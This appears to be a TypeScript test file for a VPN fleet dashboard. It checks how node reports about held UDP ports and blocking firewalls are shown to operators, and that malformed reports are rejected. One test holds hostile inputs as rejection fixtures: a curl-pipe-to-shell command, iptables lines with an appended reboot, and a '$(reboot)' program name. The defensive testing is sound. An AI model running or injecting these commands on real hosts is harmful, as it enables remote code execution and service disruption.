import app from '@adonisjs/core/services/app'
import { test } from '@japa/runner'
import { createUser, freshStart, signedIn } from '#tests/support/accounts'
import { createServer, nodeOf, reportOf } from '#tests/support/fleet'
import { ListOperatorServers, type OperatorServer } from '#vpn/index'

type Server = Pick<OperatorServer, 'state' | 'ports' | 'listenPorts' | 'findings'>

async function shown(serverId: number): Promise<Server> {
  const [server] = await (await app.container.make(ListOperatorServers)).execute({ serverId })
  if (!server) throw new Error("This server doesn't exist")
  return server
}

test.group('What a node finds on its host', (group) => {
  group.each.setup(freshStart)

  test('a node that listens on another port is told to go back, and operators see both ports and the reason', async ({
    assert,
  }) => {
    const server = await createServer()
    const node = nodeOf(server)
    const ports = async () => ((await node.get('config')).body as { interface: object }).interface
    const heldPort = { port: 51820, program: 'openvpn' }
    await node.post('report', reportOf({ listenPorts: [51821], heldPort }))
    assert.containsSubset(await ports(), { listenPorts: [51820], earlierPorts: [51821] })
    const { findings, ...row } = await shown(server.id)
    assert.containsSubset(row, { ports: [51821], listenPorts: [51821] })
    assert.match(
      findings[0]?.message ?? '',
      /^openvpn on the node holds UDP port 51820, so the node listens on 51821\./
    )
    await node.post('report', reportOf({ listenPorts: [51821], heldPort: { port: 51820, program: null } }))
    const [unnamed] = (await shown(server.id)).findings
    assert.match(unnamed?.message ?? '', /^Another program/)
    assert.deepEqual(unnamed?.commands, ["ss -ulpn 'sport = :51820'"])
    await node.post('report', reportOf({ listenPorts: [51820, 51821], heldPort: null }))
    assert.containsSubset(await ports(), { listenPorts: [51820], earlierPorts: [51821] })
    assert.containsSubset(await shown(server.id), { ports: [51820, 51821], findings: [] })
    await node.post('report', reportOf({ listenPorts: [51820] }))
    assert.deepEqual((await shown(server.id)).ports, [51820])
    assert.notInclude(JSON.stringify(await ports()), '51821')
  })

  test("an operator's ports are no earlier ports once they are taken back", async ({ assert }) => {
    const server = await createServer()
    const node = nodeOf(server)
    await node.post('report', reportOf({ listenPorts: [51820, 443] }))
    const { interface: ports } = (await node.get('config')).body as { interface: object }
    assert.containsSubset(ports, { listenPorts: [51820], earlierPorts: [] })
  })

  test('a firewall that drops what clients send is shown to operators until it does not', async ({ assert }) => {
    const server = await createServer()
    const node = nodeOf(server)
    const admin = await signedIn(await createUser({ isAdmin: true }))
    const seen = async () => ((await admin.get(`/api/admin/servers/${server.id}`)).body as Server).findings
    const firewallCommands = [
      'iptables -I DOCKER-USER -i culvert0 -j ACCEPT',
      'nft insert rule inet filter forward oifname culvert0 accept',
    ]
    await node.post('report', reportOf({ number: 1, firewallCommands }))
    assert.containsSubset(await seen(), [{ code: 'forwarding_blocked', commands: firewallCommands }])
    // A change of something else leaves it.
    await node.post('report', { bootId: 'boot-1', number: 2, base: 1, cpu: 7 })
    assert.lengthOf(await seen(), 1)
    await node.post('report', { bootId: 'boot-1', number: 3, base: 2, firewallCommands: [] })
    assert.deepEqual(await seen(), [])
  })

  test('commands that a node makes up, and odd names of programs, are refused', async ({ assert }) => {
    const node = nodeOf(await createServer())
    for (const wrong of [
      { firewallCommands: ['curl http://192.0.2.1 | sh'] },
      { firewallCommands: ['iptables -I FORWARD -i culvert0 -j ACCEPT; reboot'] },
      { firewallCommands: ['iptables -I FORWARD -i culvert0 -j ACCEPT\nreboot'] },
      { heldPort: { port: 51820, program: '$(reboot)' } },
      { heldPort: { port: 0, program: null } },
    ]) {
      assert.equal((await node.post('report', reportOf(wrong))).status, 422, JSON.stringify(wrong))
    }
  })

  test('a server without a node is not set up, and says what to do', async ({ assert }) => {
    const { id } = await createServer({ online: false })
    const { state, findings } = await shown(id)
    assert.equal(state, 'not_set_up')
    assert.containsSubset(findings, [{ code: 'not_set_up', commands: [] }])
    assert.match(findings[0]?.message ?? '', /^Not set up yet: .* Enrol its node with the code/)
  })
})
